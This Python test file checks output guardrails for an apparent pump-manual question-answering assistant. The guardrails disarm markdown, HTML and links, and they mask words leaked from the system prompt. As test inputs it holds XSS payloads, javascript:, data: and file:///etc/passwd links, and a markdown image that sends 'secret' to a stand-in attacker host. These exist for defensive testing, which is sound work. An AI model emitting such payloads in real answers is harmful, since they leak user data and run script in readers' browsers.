"""What an answer may hold: markup, links, words of the system prompt."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.stages.guardrails.leak import WITHHELD, PromptLeak
from holdfast.stages.guardrails.markup import Markup
from holdfast.stages.guardrails.settings import OutputSettings

PROMPT = """You answer questions of engineers about pumps from numbered passages and nothing else.
{% if language %}Write in {{ language }}.{% endif %}
Name the passage in brackets behind each sentence, and never speak about prices of competitors.
If there is no answer, write "The documents do not say so; ask the service desk for help with it."
"""


def disarmed(text: str, **settings: object) -> str:
    return Markup(OutputSettings(**settings)).screen(text, direction="out").text  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Torque ![x](https://evil.example/p.png?d=secret) [1].", "Torque x [1]."),
        ("![](https://evil.example/p.png)", "(image)"),
        ("![a [b [c]]](//evil.example/p.png)", "a [b [c]]"),
        ("![see\nhere](\nhttps://evil.example/p.png 'title')", "see\nhere"),
        ("[![x](https://evil.example/a.png)](https://evil.example)", "[x](https://evil.example)"),
        ("![x][ref]\n\n[ref]: https://evil.example/p", "! [x][ref]\n\n[ref]: [link removed]"),
        ("Tighten.![1] Then stop![2]", "Tighten.![1] Then stop![2]"),
        ("a <script>alert(1)</script>", "a < script>alert(1)< /script>"),
        ("<img src=x onerror=alert(1) ", "< img src=x onerror=alert(1) "),
        ("<!-- hidden -->", "< !-- hidden -->"),
        ("<https://x onmouseover=alert(1)>", "< https://x onmouseover=alert(1)>"),
        ("[go](javascript:alert(1))", "go"),
        ("[go](<javascript:alert(1)>)", "go"),
        ("[go](java&#115;cript&colon;alert(1))", "go"),
        ("[go]( data:text/html;base64,xx)", "go"),
        ("[go](file:///etc/passwd)", "go"),
        ("[1](javascript:alert(1))", "[1]"),
        ("[https://good.example/a](https://evil.example/a)", "https://good.example/a"),
        ("[good.example](//evil.example)", "good.example"),
        ("[sign in](https://good.example@evil.example/)", "sign in"),
        ("[a](https:\\\\evil.example) ok", "[a](https:\\\\evil.example) ok"),
    ],
)
def test_markup_is_disarmed(text: str, shown: str) -> None:
    assert disarmed(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Use 24 Nm [1][2], not 20 Nm [3].",
        "If a < b and c > d, then 5 <6 [1].",
        "See [the manual](https://docs.example.com/m) and [example.com](https://docs.example.com/m) [2].",
        "See [manual.pdf](https://docs.example.com/manual.pdf) or [page 3](#page-3).",
        "Write to [the desk](mailto:desk@example.com).",
        "f[0](x) = y [1]",
        "**bold**, `code`, | table |\n|---|\n- item\n\n[1]: manual.pdf",
    ],
)
def test_an_ordinary_answer_stays(text: str) -> None:
    screening = Markup().screen(text, direction="out")
    assert screening.text == text
    assert screening.findings == ()


def test_only_allowed_hosts_stay_when_some_are_named() -> None:
    text = (
        "[a](https://docs.example.com/x) [b](https://other.org/?q=s) https://other.org/?q=1 www.example.com"
    )
    shown = disarmed(text, allowed_hosts=("example.com",))
    assert shown == "[a](https://docs.example.com/x) b [link removed] www.example.com"


def test_a_question_keeps_its_markup() -> None:
    assert Markup().screen("<b>![x](y)</b>", direction="in").findings == ()


def test_by_setting_markup_blocks_or_is_noted() -> None:
    text = "![x](https://evil.example)"
    assert Markup(OutputSettings(markup="block")).screen(text, direction="out").blocked is not None
    noted = Markup(OutputSettings(markup="note")).screen(text, direction="out")
    assert noted.text == text
    assert [(finding.kind, finding.action) for finding in noted.findings] == [("image", "note")]


MARKUP = st.lists(
    st.sampled_from(
        [
            "!",
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "a",
            " ",
            "\n",
            "\\",
            ":",
            "//",
            "[1]",
            "](",
            "![x](",
            "https://e.example",
            "javascript:",
            "www.e.example",
            "&#106;",
        ]
    ),
    max_size=24,
).map("".join)


@given(st.one_of(MARKUP, st.text()))
def test_disarming_twice_changes_nothing_more(text: str) -> None:
    for settings in (OutputSettings(), OutputSettings(allowed_hosts=("good.example",))):
        screening = Markup(settings).screen(text, direction="out")
        assert screening.blocked is None
        again = Markup(settings).screen(screening.text, direction="out")
        assert (again.text, again.findings) == (screening.text, ())
        assert "<a" not in again.text
        assert "![x](" not in again.text


def test_words_of_the_system_prompt_are_withheld_and_marks_stay() -> None:
    text = (
        "24 Nm [1]. My rules: Name the passage in BRACKETS behind each sentence, and never speak about "
        "prices of competitors. So it is [2]."
    )
    screening = PromptLeak(PROMPT).screen(text, direction="out")
    assert screening.text == f"24 Nm [1]. My rules: {WITHHELD}. So it is [2]."
    assert [(finding.kind, finding.action) for finding in screening.findings] == [("system_prompt", "mask")]


def test_what_the_prompt_says_to_write_may_be_written() -> None:
    text = "The documents do not say so; ask the service desk for help with it."
    assert PromptLeak(PROMPT).screen(text, direction="out").text == text


def test_a_short_run_of_the_same_words_is_no_leak() -> None:
    text = "Engineers ask about pumps from numbered passages."
    assert PromptLeak(PROMPT).screen(text, direction="out").findings == ()


def test_a_prompt_shorter_than_the_run_is_still_guarded() -> None:
    screening = PromptLeak("The secret word is galaxy.").screen(
        "Well: the secret word is galaxy!", direction="out"
    )
    assert screening.text == f"Well: {WITHHELD}!"


def test_without_a_system_prompt_nothing_is_withheld() -> None:
    assert PromptLeak("").screen("Use 24 Nm [1].", direction="out").findings == ()


def test_by_setting_a_leak_blocks() -> None:
    guardrail = PromptLeak("The secret word is galaxy.", OutputSettings(prompt_leak="block"))
    assert guardrail.screen("The secret word is galaxy.", direction="out").blocked is not None
